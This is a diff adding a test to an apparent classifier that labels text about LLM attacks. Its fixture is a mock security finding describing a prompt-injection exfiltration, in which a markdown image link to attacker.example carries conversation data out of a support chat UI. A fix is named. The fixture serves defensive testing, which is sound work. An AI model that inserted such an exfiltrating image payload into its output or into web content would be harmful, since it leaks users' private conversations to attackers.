@@ -125,6 +125,13 @@ describe('structured evidence in a report about LLM attacks', () => {
     expect(verdict(text)).toBe('block');
   });
 
+  it('names the topic by the carrier a report studies ("markdown images")', () => {
+    const report = (title: string): string =>
+      `Finding: data exfiltration via ${title}. The support UI renders images from any domain. A payload of the form ![x](https://attacker.example/log?q=<conversation data>) in a retrieved web page made the browser send the conversation to the attacker's server. Fix: allow images from company CDNs only.`;
+    expect(verdict(report('markdown images'))).toBe('allow');
+    expect(verdict(report('images'))).toBe('block');
+  });
+
   it('blocks fake turns in a scanner finding that is not a report about LLM attacks', () => {
     expect(
       verdict(
